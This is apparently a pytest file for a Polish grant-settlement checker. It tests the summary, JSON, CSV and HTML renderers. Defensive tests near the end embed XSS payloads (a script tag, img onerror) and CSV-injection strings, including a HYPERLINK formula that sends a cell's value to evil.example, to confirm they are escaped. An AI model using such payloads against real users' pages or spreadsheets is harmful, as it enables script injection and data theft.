"""Renderers: the one-screen chat summary, JSON, CSV and the printable HTML page."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from decimal import Decimal as D
from html.parser import HTMLParser

import pytest

from checks import Report, run_checks
from checks.render import CSV_COLUMNS, render, summary, text_report, to_csv, to_dict, to_html
from extractors.models import Party, ProtocolItem
from tests.checks.test_runner import classify, ctx, invoice, line, protocol


def _report(**kw: object) -> Report:
    return run_checks([invoice(**kw)], ctx(), classify)


def _busy_report() -> Report:
    """Dozens of findings: 30 ineligible laptops on invoices with bad NIPs and no protocol."""
    docs = [
        invoice(
            file=f"fv{n}.pdf",
            number=f"FV/{n}/2024",
            seller=Party("X Sp. z o.o.", "1234567890"),
            items=tuple(line(f"Laptop nr {k}", "1000.00", k) for k in range(1, 4)),
        )
        for n in range(1, 11)
    ]
    return run_checks(docs, ctx(), classify)


@pytest.mark.parametrize("factory", [_report, _busy_report], ids=["small", "busy"])
def test_summary_fits_one_screen(factory: object) -> None:
    report = factory()  # type: ignore[operator]
    text = summary(report)
    assert len(text.splitlines()) <= 25
    assert text.startswith("Wstępna kontrola rozliczenia – Cyberbezpieczny Samorząd")
    assert "Co zrobić:" in text and "Najważniejsze problemy:" in text
    assert "22 182 22 94" in text  # the programme's hotline for questions


def test_summary_states_the_totals() -> None:
    text = summary(_report())
    assert "Kwalifikowalne: 10 000,00 zł netto, 12 300,00 zł brutto" in text
    assert "Niekwalifikowalne: 4 000,00 zł netto, 4 920,00 zł brutto" in text
    assert "Do wyjaśnienia: 3 000,00 zł netto, 3 690,00 zł brutto" in text
    assert "niekwalifikowalne: 1" in text


def test_a_short_set_names_every_line_and_a_long_one_does_not() -> None:
    items = (line("FortiGate 60F", "1000.00", 1), line("Toner HP 59A", "200.00", 2))
    text = summary(run_checks([invoice(items=items)], ctx(), classify))
    assert "✅ Poz. 1 „FortiGate 60F” – 1 000,00 zł netto" in text
    assert "❓ Poz. 2 „Toner HP 59A” – 200,00 zł netto" in text  # the test classifier does not know it
    assert len(text.splitlines()) <= 25
    assert "Laptop nr 2" not in summary(_busy_report())  # thirty lines: only the folded problem line


def test_busy_summary_points_to_the_full_report() -> None:
    report = _busy_report()
    text = summary(report)
    # Thirty laptops are one line, not thirty.
    assert "❌ Pozycje niekwalifikowalne: 30, razem 30 000,00 zł netto; np. Poz. 1 „Laptop nr 1”" in text
    assert text.count("Laptop nr") == 1
    assert text.count("NIP sprzedawcy") == 1 and "(+ 9 podobnych uwag)" in text


def test_clean_set_says_so() -> None:
    items = (line("FortiGate 60F", "1000.00", 1),)
    docs = [invoice(items=items), protocol((ProtocolItem("FortiGate 60F", D(1)),))]
    report = run_checks(docs, ctx(vat_recoverable=True), classify)
    assert [f.severity.value for f in report.findings] == ["info"]
    assert "Nie znalazłem problemów" in summary(report)


def test_json_contract() -> None:
    data = json.loads(json.dumps(to_dict(_report()), ensure_ascii=False))
    assert {"documents", "items", "findings", "totals"} <= data.keys()
    item_keys = {"category", "verdict", "reason", "citation", "document", "position", "name", "net", "gross"}
    for item in data["items"]:
        assert item_keys <= item.keys()
    laptop = data["items"][1]
    assert laptop["verdict"] == "ineligible" and laptop["net"] == "4000.00" and laptop["gross"] == "4920.00"
    assert laptop["citation"].startswith("cyberbezpieczny_samorzad_schemat_grantowy.txt, ")
    for finding in data["findings"]:
        assert {"code", "severity", "message", "citation", "document", "line", "amount"} <= finding.keys()
        assert finding["severity"] in ("error", "warning", "info")
    assert data["totals"]["eligible_net"] == "10000.00" and data["totals"]["total_gross"] == "20910.00"
    assert data["documents"][0]["number"] == "FV/1/2024" and data["documents"][0]["issue_date"] == "2024-03-01"


def _col(name: str) -> int:
    return CSV_COLUMNS.index(name)


def test_csv_is_one_row_per_line_with_a_totals_row() -> None:
    report = _report()
    rows = list(csv.reader(io.StringIO(to_csv(report)), delimiter=";"))
    assert tuple(rows[0]) == CSV_COLUMNS
    items, total = rows[1:-1], rows[-1]
    assert len(items) == len(report.items) and total[0] == "RAZEM"
    laptop = items[1]
    assert laptop[_col("nazwa pozycji")] == "Laptop Dell Latitude 5540" and laptop[_col("netto")] == "4000,00"
    assert laptop[_col("ocena")] == "niekwalifikowalna" and laptop[_col("kwalifikowalne netto")] == "0,00"
    # Every amount column holds numbers only, and its SUM is the totals row and the report's total.
    for column in ("netto", "VAT", "brutto", "kwalifikowalne netto", "kwalifikowalne brutto"):
        cells = [r[_col(column)] for r in items]
        assert all(c == "" or c.replace(",", "").replace("-", "").isdigit() for c in cells)
        assert sum(D(c.replace(",", ".")) for c in cells if c) == D(total[_col(column)].replace(",", "."))
    assert D(total[_col("netto")].replace(",", ".")) == report.totals.total_net
    assert D(total[_col("kwalifikowalne brutto")].replace(",", ".")) == report.totals.eligible_gross


def test_csv_survives_separators_and_quotes_in_names() -> None:
    report = _report(items=(line('Kabel; "patchcord" 5 m\nkat. 6', "10.00", 1),))
    rows = list(csv.reader(io.StringIO(to_csv(report)), delimiter=";"))
    assert rows[1][_col("nazwa pozycji")] == 'Kabel; "patchcord" 5 m\nkat. 6'


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_escapes_document_text() -> None:
    hostile = '<script>alert("x")</script> & <img src=x onerror=alert(1)>'
    report = _report(
        items=(line(hostile, "10.00", 1),),
        seller=Party('Firma "<b>Zła</b>" Sp. z o.o.', "5260250274"),
        number="<i>FV</i>/1",
    )
    page = to_html(report, generated=date(2026, 11, 21))
    parser = _Tags()
    parser.feed(page)
    assert "script" not in parser.tags and "img" not in parser.tags and "b" not in parser.tags
    assert "i" not in parser.tags
    assert hostile in "".join(parser.text)  # shown to the reader as text, exactly
    assert "21.11.2026" in page


def test_html_is_a_printable_polish_page() -> None:
    page = to_html(_report())
    assert page.startswith("<!DOCTYPE html>") and '<html lang="pl">' in page and 'charset="utf-8"' in page
    assert "@media print" in page and "@page" in page
    assert "Laptop Dell Latitude 5540" in page and "niekwalifikowalna" in page
    assert "Co zrobić" in page and "10 000,00 zł" in page
    assert page.index("Błędy (") < page.index("Ostrzeżenia (") < page.index("Informacje (")


def test_text_report_lists_every_line_and_finding() -> None:
    report = _report()
    text = text_report(report)
    for item in report.items:
        assert item.name in text
    full_list = text.split("\n\nWstępna kontrola")[0].splitlines()
    listed = [line for line in full_list if line.startswith(("❌ ", "⚠️ ", "ℹ️ "))]
    assert len(listed) == len(report.findings) == 4
    assert "Błędy (1):" in full_list and "Ostrzeżenia (2):" in full_list and "Informacje (1):" in full_list


@pytest.mark.parametrize("fmt", ["summary", "text", "json", "csv", "html"])
def test_render_dispatch(fmt: str) -> None:
    assert render(_report(), fmt)


def test_render_unknown_format() -> None:
    with pytest.raises(LookupError):
        render(_report(), "pdf")


def test_empty_report_renders() -> None:
    report = run_checks([], ctx(), classify)
    assert "brak odczytanych dokumentów" in summary(report)
    assert to_dict(report)["items"] == []
    assert to_html(replace(report, findings=()))


def test_duplicates_are_marked_as_left_out() -> None:
    report = run_checks(
        [invoice(), invoice(file="kopia.pdf")], ctx(), classify, file_hashes={"fv1.pdf": "h", "kopia.pdf": "h"}
    )
    text = text_report(report)
    assert "kopia.pdf (duplikat – pominięty w kontroli)" in text
    assert "fv1.pdf (duplikat" not in text
    assert "(duplikat – pominięty w kontroli)" in to_html(report)


def test_summary_worst_case_still_fits() -> None:
    """Every kind of finding at once, all three verdicts, unreadable files: still one screen."""
    from checks import Finding, Severity
    from checks.render import ADVICE

    base = _report()
    findings = tuple(
        Finding(code, Severity.ERROR if n % 2 else Severity.WARNING, f"Uwaga numer {n}.", document="fv1.pdf", line=n)
        for n, code in enumerate(ADVICE)
    )
    report = replace(base, findings=findings, unit_name="gmina wiejska Wiśniowa")
    text = summary(report)
    assert len(text.splitlines()) <= 25
    assert "w pełnym raporcie" in text


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"kliknij") firewall',
        "+48 123 firewall",
        "-2+3 kabel",
        "@SUM(1+1)",
        "\tTAB firewall",
        "\rCR firewall",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr"],
)
def test_csv_cells_cannot_become_spreadsheet_formulas(name: str) -> None:
    """OWASP CSV injection: officials open the export in Excel, which would evaluate these cells."""
    report = _report(items=(line(name, "10.00", 1),), number="=1+1")
    rows = list(csv.reader(io.StringIO(to_csv(report), newline=""), delimiter=";"))
    item = rows[1]
    assert item[_col("nazwa pozycji")] == "'" + name and item[_col("nr dokumentu")] == "'=1+1"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_csv_keeps_negative_amounts_as_numbers() -> None:
    report = _report(items=(line("FortiGate 60F korekta", "-500.00", 1),))
    rows = list(csv.reader(io.StringIO(to_csv(report)), delimiter=";"))
    assert rows[1][_col("netto")] == "-500,00"
